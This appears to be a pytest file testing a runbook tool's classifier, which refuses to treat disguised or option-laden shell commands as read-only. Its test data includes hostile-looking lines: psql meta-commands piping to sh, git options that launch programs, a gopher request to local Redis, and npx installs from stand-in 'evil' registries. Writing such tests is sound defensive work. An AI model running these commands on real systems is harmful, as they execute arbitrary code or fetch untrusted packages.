"""Commands that look read-only and do more: none runs on Enter, and none runs in a check without asking."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.books import POLICY, procedure_text, write_book
from support.policies import book_policy, policy_of, rule
from support.walks import Walked

from runbook.checks.book import find_problems
from runbook.errors import PolicyRefusal
from runbook.loading import read_book
from runbook.model import Effect, Family
from runbook.policy.judgement import classify
from runbook.policy.read_only import runs_others
from runbook.steps.destination import Prepared
from runbook.steps.view import effect_sentence

READING = """\
git log -1 --format=%h
git --no-pager log --oneline --max-count=10 -- a b
git --no-pager diff --stat 3f2a91c HEAD -- supabase/functions
git ls-files --error-unmatch -- a/index.ts
git status --short -- supabase
git rev-parse --show-prefix
git worktree list
git branch -v
git remote -v
date
date -u +%Y-%m-%dT%H:%M
ls -la supabase/migrations
curl -sSf https://example.com/health
curl -X GET -H 'Accept: text/plain' https://example.com/health
psql -Atc 'select 1'
psql -h db.example.com -U app -d app -c 'select count(*) from tasks'
psql -l
pg_dump --schema-only -h db.example.com
pg_restore -l backup.dump
pg_isready -h 127.0.0.1 -p 5432
squawk --pg-version 17 --assume-in-transaction --exclude prefer-robust-stmts supabase/migrations/a.sql
npx supabase migration list --linked --output-format json
npx supabase db push --dry-run --remote
npx supabase db push --dry-run --include-all --linked
npx supabase db dump --linked
npx supabase db diff --linked --schema public
npx supabase db query --linked 'select 1' -o csv
npx supabase db query --read-only --output-format json --remote -- 'select 1'
npx supabase inspect db locks --linked
npx supabase gen types --linked --lang go
npx supabase projects list -o json
npx supabase@2.109.1 functions list --project-ref abcdefghijklmnopqrst
npx -y supabase status -o env
pnpm exec supabase secrets list --remote
supabase logs --remote --service postgres --since 1h
supabase db --help
npx supabase db reset --linked --help
runbook check
runbook show emergency-rollback
runbook guard --line 'npx supabase db reset --linked'
runbook report 20261123-1
""".splitlines()

MORE_THAN_READING = r"""
git -c core.fsmonitor=/tmp/x status
git -ccore.fsmonitor=/tmp/x status
git -c alias.log='!sh x' log
git -C /tmp/x status
git --git-dir=/tmp/x status
git --work-tree /tmp/x status
git --exec-path=/tmp/x log
git --config-env=core.pager=X log
git --paginate log
git diff --output=x
git diff --output x
git diff --outp=x
git log --outp x
git log --no-pager --output=x
git diff --ext-diff
git diff --ext
git show --textconv HEAD
git diff --no-index a b
git grep -Ovi x
git grep -nOvi x
git grep --open-files-in-pager=sh x
git ls-files --recurse-submodules
git cat-file --filters HEAD:x
git cat-file --textconv HEAD:x
git branch new
git branch -d old
git branch -D old
git branch -vf main HEAD~9
git branch --set-upstream-to=x
git remote add x y
git remote set-url origin x
git remote show origin
git remote update
git diff --output=x --help
git ls-remote --upload-pack=/tmp/x .
date -s 10:00
date -us 10:00
date -us10:00
date --set=10:00
date --set 10:00
date --se=10:00
date 112310002026
date -u 112310002026
date -f dates.txt
date -- 112310002026
ls --unheard-of
curl -o f https://x
curl -of https://x
curl -sof https://x
curl -sSfLo f https://x
curl --output=f https://x
curl --outp f https://x
curl -O https://x/f
curl -sO https://x/f
curl --remote-name-all https://x/f
curl -J -O https://x/f
curl -K f
curl -Kf https://x
curl --config f
curl --conf f
curl -T f https://x
curl -D f https://x
curl -c f https://x
curl --cookie-jar f https://x
curl --trace f https://x
curl --trace-ascii f https://x
curl --libcurl f https://x
curl --stderr f https://x
curl --etag-save f https://x
curl --hsts f https://x
curl --alt-svc f https://x
curl --dump-header f https://x
curl -w '%output{f}x' https://x
curl --write-out=%output{f}x https://x
curl -w @f https://x
curl -X DELETE https://x
curl -XDELETE https://x
curl --request=POST https://x
curl -d a https://x
curl -da https://x
curl -sda https://x
curl --data-raw a https://x
curl --json {} https://x
curl -F a=b https://x
curl -Q 'DELE x' ftp://x
curl ftp://x/y
curl gopher://127.0.0.1:6379/_x
curl smtp.example.com
curl --next https://x
psql -o f -c 'select 1'
psql -of -c 'select 1'
psql -o out.txt -c 'select 1'
psql -L log -c 'select 1'
psql -Ato f -c 'select 1'
psql --output=f -c 'select 1'
psql --outp f -c 'select 1'
psql -L f -c 'select 1'
psql --log-file=f -c 'select 1'
psql -c '\! rm x'
psql -c '\o f'
psql -c '\o | sh'
psql -c 'select 1' -c '\o f'
psql -c '\copy t to f'
psql -c '\copy t to program sh'
psql -c '\i f'
psql -c '\ir f'
psql -c '\w f'
psql -c '\s f'
psql -c '\e'
psql -c '\setenv PAGER x'
psql -c 'select 1 \g f'
psql -c 'select 1 \g |sh'
psql -c 'select 1 \gexec'
psql -f x.sql
psql -f x.sql -c 'select 1'
psql -v x=1 -c 'select :x'
psql --set=x=1 -c 'select :x'
psql -P pager=on -c 'select 1'
psql 'postgresql:///x?options=-csearch_path=evil' -c 'select 1'
psql -d "dbname=x options='-c search_path=evil'" -c 'select 1'
psql -l -o f
psql
pg_dump -f x
pg_dump -fx
pg_dump -sfx
pg_dump --file=x
pg_dump --fil=x
pg_dump -Fd -f x
pg_dumpall -gf x
pg_restore -l -f x d
pg_restore -l -d postgres d
make -n x
make --dry-run x
make
npm run x --help
npm run x --version
pnpm x --help
yarn x --help
bun run x --help
npx evil --help
npx evil --version
npx git status
npx -p evil supabase projects list
npx --package=evil supabase projects list
npx --registry=http://evil supabase projects list
npx supabase@file:/tmp/x projects list
npx supabase@npm:evil projects list
npx supabase@https://evil/x.tgz projects list
npx @evil/supabase projects list
npx ./supabase projects list
node evil/supabase.js projects list
./supabase projects list
/tmp/evil/git status
./date
yarn supabase projects list
pnpm supabase projects list
npm run supabase projects list
npx supabase --profile evil projects list
npx supabase --profile=/tmp/x projects list
npx supabase projects list --experimental
npx supabase --wizard
npx supabase --yes projects list
npx supabase db dump -f x --linked
npx supabase db dump -fx --linked
npx supabase db dump -f 0 --linked
npx supabase db dump --file=no --linked
npx supabase db dump --file=x --linked
npx supabase db dump --dry-run -f x --linked
npx supabase db diff -f x
npx supabase db diff -o x
npx supabase db diff -ox
npx supabase db diff --output=x
npx supabase inspect report --linked
npx supabase inspect report --output-dir x
npx supabase db schema declarative generate
npx supabase gen signing-key
npx supabase gen signing-key --append
npx supabase functions serve
npx supabase migration list --linked --yes
npx supabase migration list --linked --create-ticket
npx supabase migration list --linked --network-id x
npx supabase db query --read-only=false --linked 'select nextval(1)'
npx supabase db query --linked --file fix.sql
npx supabase logs --remote --sql 'delete from x'
squawk upload-to-github x.sql
squawk server
squawk -c x y.sql
runbook guard uninstall shims
runbook guard install shims
runbook guard -- rm x
runbook guard -- npx supabase db reset --linked
runbook guard --line x -- rm y
runbook guard hook codex
runbook report x --output f
runbook report x --output=f
runbook report x --outp f
runbook run push-migration
runbook drill push-migration
runbook site build
runbook new procedure x
runbook --book other guard uninstall shims
sh -c x
env git log
""".strip().splitlines()


@pytest.mark.parametrize("line", READING)
def test_a_command_known_to_only_read_counts_as_reading(line: str) -> None:
    """The commands of daily work still run on Enter."""
    judged = classify(shlex.split(line), book_policy())
    assert (judged.effect, judged.rule != "" or "--help" in line) == (Effect.READS, True)


@pytest.mark.parametrize("line", MORE_THAN_READING)
def test_a_command_with_an_unknown_option_counts_as_writing(line: str) -> None:
    """So does one with a glued, abbreviated or misplaced option, and one that a path or a launcher starts."""
    judged = classify(shlex.split(line), book_policy())
    assert judged.effect is not Effect.READS or not judged.rule


@settings(max_examples=400, deadline=None)
@given(st.data())
def test_no_option_outside_the_list_is_proven_to_read(data: st.DataObject) -> None:
    """Any option inserted anywhere makes a reading command count as writing, unless it is listed."""
    reading = [each for each in book_policy().rules if each.effect is Effect.READS and not each.variants]
    each = data.draw(st.sampled_from(reading))
    known = {*each.options, *book_policy().global_options.get(each.program, ()), "--local", "--help", "--version"}
    known |= set(book_policy().remote_flags) if each.program == "supabase" else set()
    option = data.draw(st.from_regex(r"--?[a-z][a-z-]{0,11}", fullmatch=True))
    letters = {f"-{letter}" for letter in option[1:]}
    words = [each.program, *each.command]
    words.insert(data.draw(st.integers(1, len(words))), option + data.draw(st.sampled_from(["", "=x"])))
    if option in known or (not option.startswith("--") and letters & {*known, "-h", "-v"}):
        return
    judged = classify(words, book_policy())
    assert judged.effect is not Effect.READS or not judged.rule


# --- a team's policy -------------------------------------------------------------------------------------------------


RUNNERS = """
sh bash zsh dash fish python python3 python3.12 node deno bun perl ruby php awk sed find env xargs sudo timeout nohup
nice watch parallel ssh docker kubectl make just npm npx pnpm yarn bunx uv uvx cargo go eval exec command
"""


@pytest.mark.parametrize("program", RUNNERS.split())
def test_no_policy_can_call_a_launcher_read_only(program: str) -> None:
    """A rule that calls a shell, an interpreter or a launcher a reader has no effect."""
    assert runs_others(program)
    policy = policy_of(rule(program=program, command=(), reaches=Family.NOTHING))
    assert classify([program, "x"], policy).effect is not Effect.READS
    assert classify([program, "--version"], policy).effect is not Effect.READS


def test_the_check_names_a_rule_that_calls_a_shell_read_only(tmp_path: Path) -> None:
    """Its author sees the file and the reason."""
    text = POLICY + (
        "  - {id: look, program: sh, command: '', reaches: nothing, effect: reads, remote: allow, local: allow,\n"
        "     reason: Ours.}\n"
    )
    book = write_book(tmp_path / "book", policy=text)
    found = [str(each) for each in find_problems(str(book))[1]]
    assert any("policy.yaml" in each and "'sh' runs what it is given" in each for each in found)


# --- a walk ----------------------------------------------------------------------------------------------------------


STEP = """\
- id: look
  title: Look
  run: git log --oneline{step}
  verify: {{run: "git log{check}"}}
"""


def _walked(tmp_path: Path, *, step: str = "", check: str = "", policy: str = POLICY) -> Walked:
    text = procedure_text(STEP.format(step=step, check=check))
    return Walked(read_book(write_book(tmp_path / "book", {"fix": text}, policy=policy)), tmp_path)


@pytest.mark.parametrize(("words", "typed"), [(" main", "enter"), (" --output=.env", "yes"), (" --outp .env", "yes")])
def test_a_step_that_is_not_proven_to_read_is_not_run_on_enter(tmp_path: Path, words: str, typed: str) -> None:
    """The words decide, not the program."""
    walked = _walked(tmp_path, step=words)
    walked.begin("fix")
    assert walked.operator.log[1] == ("decide", "look", typed)


def test_a_check_never_runs_what_is_not_proven_to_read(tmp_path: Path) -> None:
    """The walk refuses it with the reason, even if no check of the book did."""
    walked = _walked(tmp_path, check=" --output=.env")

    with pytest.raises(PolicyRefusal, match=r"--output.* isn't among the options") as refusal:
        walked.begin("fix")

    assert walked.executor.ran == [("git", "log", "--oneline")]
    assert "It didn't run." in refusal.value.hint


def test_a_check_never_runs_what_needs_a_person(tmp_path: Path) -> None:
    """A command that only reads, but that the policy wants confirmed, can't be a check."""
    allowed = "command: log, reaches: nothing, effect: reads, remote: allow, local: allow"
    confirmed = POLICY.replace(allowed, allowed.replace("allow", "confirm"))
    walked = _walked(tmp_path, policy=confirmed)

    with pytest.raises(PolicyRefusal, match="needs a person"):
        walked.begin("fix")

    assert walked.executor.ran == [("git", "log", "--oneline")]


@pytest.mark.parametrize("check", [" --output=x", " --outp x", " -Ofile", " --ext-diff"])
def test_the_check_of_a_book_names_a_check_that_is_not_proven_to_read(tmp_path: Path, check: str) -> None:
    """Its author sees the problem before anyone walks the procedure."""
    text = procedure_text(STEP.format(step="", check=check))
    book = write_book(tmp_path / "book", {"fix": text}, policy=POLICY)
    assert any("a check must only read" in each.message for each in find_problems(str(book))[1])


def test_a_dry_run_leaves_out_what_is_not_proven_to_read(tmp_path: Path) -> None:
    """A dry run asks for no confirmation, so it only runs commands that read."""
    walked = _walked(tmp_path, step=" --output=x")
    walked.begin("fix", dry=True)
    assert walked.executor.ran == []


def test_a_step_that_writes_a_file_says_so() -> None:
    """A dump doesn't change production, and the screen doesn't claim that it does."""
    prepared = Prepared(argv=(), effect=Effect.WRITES, judgement=classify(shlex.split("pg_dump -f x"), book_policy()))
    assert effect_sentence(prepared, "production") == "Reads production and WRITES files on this machine."
